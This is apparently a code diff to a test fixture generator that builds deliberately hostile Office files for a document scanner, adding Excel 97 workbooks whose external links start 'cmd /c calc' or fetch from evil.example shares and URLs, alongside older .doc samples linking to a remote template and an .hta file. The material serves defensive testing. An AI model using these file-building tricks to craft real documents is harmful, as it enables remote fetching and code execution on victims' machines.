@@ -1,5 +1,5 @@
 import type { HostileFile, MadeFile } from './make';
-import { makeCompound, makeDocx, makeXlsx, repack, wordStreams } from './office';
+import { excelStreams, makeCompound, makeDocx, makeXlsx, record, repack, wordStreams } from './office';
 
 const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
@@ -48,6 +48,10 @@ function oldDoc({ text = '', template = '', ole }: { text?: string | Buffer; tem
   main.writeUInt32LE(list.length, 0x19e);
   return makeCompound({ ...streams, ...(ole && { 'ObjectPool/_1/\u0001Ole': ole }) });
 }
+
+/** A workbook of Excel 97 that is linked to another one ([MS-XLS] SupBook), its place encoded as VirtualPath says. */
+const oldBook = (place: string): Buffer =>
+  makeCompound(excelStreams([record(0x01ae, Buffer.concat([Buffer.from([1, 0, place.length, 0, 1]), Buffer.from(place, 'utf16le')]))]));
 
 /** Ways beside the lists of relationships by which a document asks another computer or starts a program. */
 export async function fetchingFiles(): Promise<HostileFile[]> {
@@ -160,6 +164,11 @@ export async function fetchingFiles(): Promise<HostileFile[]> {
     ['a template of a .doc on a share', oldDoc({ template: '\\\\evil.example\\t.dot' }), { ...remote, link: 'template' }],
     ['an object of a .doc linked to the web', oldDoc({ ole: oleLink('http://evil.example/x.hta') }), remote],
   ];
+  const oldBooks: [string, Buffer, Record<string, string>][] = [
+    ['an .xls linked to a program', oldBook('cmd\u0003/c calc'), dde],
+    ['an .xls linked to a share', oldBook('\u0001\u0001@evil.example\u0003share\u00031.xls'), remote],
+    ['an .xls linked to the web', oldBook('\u0001\u0005\u0019http://evil.example/1.xls'), remote],
+  ];
   const all: [string, MadeFile, Record<string, string>][] = [
     ...docs.map(([trick, parts, params]): [string, MadeFile, Record<string, string>] => [
       trick,
@@ -172,6 +181,7 @@ export async function fetchingFiles(): Promise<HostileFile[]> {
       params,
     ]),
     ...old.map(([trick, bytes, params]): [string, MadeFile, Record<string, string>] => [trick, { name: 'План.doc', bytes }, params]),
+    ...oldBooks.map(([trick, bytes, params]): [string, MadeFile, Record<string, string>] => [trick, { name: 'Журнал.xls', bytes }, params]),
   ];
   return all.map(([trick, file, params]) => ({ ...file, trick, params, code: 'FILE_HAS_ACTIVE_CONTENT' }));
 }
@@ -218,6 +228,7 @@ export async function selfContainedFiles(): Promise<MadeFile[]> {
     ...docs.map(([name, parts]) => ({ name: `${name}.docx`, bytes: withParts(docx, parts) })),
     ...books.map(([name, part]) => ({ name: `${name}.xlsx`, bytes: withParts(xlsx, { 'xl/part9.xml': part }) })),
     { name: 'Шаблон Normal.doc', bytes: oldDoc({ template: 'C:\\Users\\Анна\\Normal.dot', ole: oleLink('C:\\1.xls') }) },
+    { name: 'книга рядом.xls', bytes: oldBook('\u0001\u0001C\u0003Мои документы\u0003[1.xls') },
     { name: 'поле страницы.doc', bytes: oldDoc({ text: '\u0013 DATE \u0014x\u0015' }) },
   ];
 }
